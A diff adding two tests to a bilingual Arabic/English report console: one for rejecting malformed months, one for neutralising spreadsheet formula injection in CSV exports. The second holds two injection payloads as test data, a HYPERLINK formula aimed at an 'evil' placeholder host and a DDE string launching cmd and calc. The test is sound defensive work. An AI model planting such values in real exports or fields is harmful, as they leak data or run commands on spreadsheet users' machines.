@@ -323,3 +323,36 @@ test("report: the twelve-month trend equals the stored letter records month by m
   const narrowed = await http(world.node.url, "GET", `/console/report.csv?month=${MONTH}&agency=MOI`, undefined, { cookie });
   assert.match(narrowed.headers.get("content-disposition") ?? "", new RegExp(`taqib-report-${MONTH}-MOI\\.csv`));
 });
+
+test("report: a month outside 2000-01 to this month is a 400 that names the month, in the page's language", async () => {
+  const { cookie } = await signIn("admin1");
+  for (const month of ["0000-01", "1999-12", "9999-12", "2026-13", "26-01"]) {
+    for (const path of ["/console/report", "/console/report.csv"]) {
+      const r = await http(world.node.url, "GET", `${path}?month=${month}`, undefined, { cookie });
+      assert.equal(r.status, 400, `${path}?month=${month}`);
+      assert.match(r.text, /الشهر غير صحيح: يُكتب بالصيغة سنة-شهر/, `${path}?month=${month}`);
+    }
+  }
+  const en = await http(world.node.url, "GET", "/console/report?month=0000-01", undefined, { cookie: `${cookie}; taqib_console_lang=en` });
+  assert.equal(en.status, 400);
+  assert.match(en.text, /The month is not valid: write it as year-month/);
+  const unknown = await http(world.node.url, "GET", `/console/report?month=${MONTH}&agency=NOPE`, undefined, { cookie });
+  assert.match(unknown.text, /التصفية غير صحيحة/);
+});
+
+// Last in this file: it renames an agency and a department.
+test("report: agency and department names that a spreadsheet would run as formulas come out of the CSV as text", async () => {
+  const formulas = { MOI: '=HYPERLINK("evil"&A1,"وزارة الداخلية")', HR: "@SUM(1+1)*cmd|' /C calc'!A0" };
+  const moi = await api(world.node.url, "PUT", "/api/v1/agencies/MOI", { name: { ar: formulas.MOI, en: "+Interior" } });
+  assert.equal(moi.status, 200, moi.text);
+  const { code: _code, updatedAt: _at, ...hr } = (await api(world.node.url, "GET", "/api/v1/departments/HR")).body;
+  const renamed = await api(world.node.url, "PUT", "/api/v1/departments/HR", { ...hr, name: { ar: formulas.HR, en: "-HR" } });
+  assert.equal(renamed.status, 200, renamed.text);
+  const { cookie } = await signIn("admin1");
+  await eventually(async () => (await http(world.node.url, "GET", `/console/report.csv?month=${MONTH}`, undefined, { cookie })).text.includes("HYPERLINK"), 10000, "the renamed agency in the CSV");
+  const rows = parseCsv((await http(world.node.url, "GET", `/console/report.csv?month=${MONTH}`, undefined, { cookie })).text.replace(/^\uFEFF/, ""));
+  assert.equal(rows.find((r) => r[0] === "الجهة" && r[1] === "MOI")?.[2], `'${formulas.MOI}`);
+  assert.equal(rows.find((r) => r[0] === "الإدارة" && r[1] === "HR")?.[2], `'${formulas.HR}`);
+  const dangerous = rows.flat().filter((f) => /^[=+\-@\t\r]/.test(f));
+  assert.deepEqual(dangerous, [], "no field starts a formula");
+});
